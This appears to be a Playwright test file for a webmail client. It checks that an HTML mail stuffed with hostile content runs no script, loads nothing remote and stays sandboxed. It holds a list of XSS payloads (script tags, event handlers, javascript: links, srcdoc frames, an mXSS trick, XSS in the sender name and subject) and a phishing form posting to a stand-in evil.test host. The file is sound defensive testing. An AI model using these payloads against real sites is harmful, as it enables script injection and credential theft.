"""Hostile HTML of a mail in the webmail: it runs nothing, loads nothing, and stays in its frame."""

import base64

import pytest
from playwright.async_api import Route, expect

from tests.support.webmail import opened

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

HOSTILE = """
<p>Good day</p>
<script>window.top.pwned('script')</script>
<script src="/web/main.js"></script>
<script src="http://evil.test/x.js"></script>
<img src=x onerror="parent.pwned('onerror')">
<img src="http://evil.test/pixel.png"><img srcset="http://evil.test/2.png 2x">
<svg onload="parent.pwned('svg')"><script>parent.pwned('svg script')</script></svg>
<a href="javascript:parent.pwned('link')" id="bad">press me</a>
<iframe src="javascript:parent.pwned('frame')"></iframe>
<iframe srcdoc="<script>parent.parent.pwned('srcdoc')</script>"></iframe>
<form action="http://evil.test/steal"><input name="p"><button>Sign in</button></form>
<meta http-equiv="refresh" content="0;url=http://evil.test/away">
<base href="http://evil.test/"><link rel="stylesheet" href="http://evil.test/a.css">
<style>body{background:url(http://evil.test/b.png)} @import url(http://evil.test/c.css);</style>
<p style="background:url(http://evil.test/d.png)">styled</p>
<object data="http://evil.test/o"></object><embed src="http://evil.test/e">
<math><mtext><table><mglyph><style><img src=x onerror="parent.pwned('mxss')"></style></table></math>
<details open ontoggle="parent.pwned('toggle')"><summary>x</summary></details>
"""
MAIL = (
    b"From: =?utf-8?q?Mallory_=3Cscript=3Epwned('name')=3C/script=3E?= <m@evil.test>\r\n"
    b"Subject: <img src=x onerror=pwned('subject')>\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
)


async def test_a_hostile_mail_runs_nothing_and_loads_nothing(browser, world) -> None:
    await world.deliver(MAIL + base64.encodebytes(HOSTILE.encode()))
    watched = await opened(browser, world)
    page = watched.page
    await watched.rows.first.click()
    frame = page.frame_locator("iframe.mail")
    await expect(frame.get_by_text("Good day")).to_be_visible()
    await expect(watched.subject).to_have_text("<img src=x onerror=pwned('subject')>")
    sandbox = await page.locator("iframe.mail").get_attribute("sandbox")
    assert sandbox is not None
    assert "allow-scripts" not in sandbox
    await frame.get_by_text("press me").click()
    await page.wait_for_timeout(300)
    assert watched.bad == []


async def test_without_the_sanitiser_frame_and_policy_would_still_hold(browser, world) -> None:
    await world.deliver(MAIL + base64.encodebytes(b"<p>Hello</p>"))

    async def unsanitised(route: Route) -> None:
        answer = await route.fetch()
        await route.fulfill(response=answer, body=HOSTILE)

    watched = await opened(browser, world)
    page = watched.page
    await page.route("**/v1/messages/*/view", unsanitised)
    await watched.rows.first.click()
    await expect(page.frame_locator("iframe.mail").get_by_text("Good day")).to_be_visible()
    await page.wait_for_timeout(300)
    assert [what for what in watched.bad if what.startswith(("ran", "dialog", "popup"))] == []
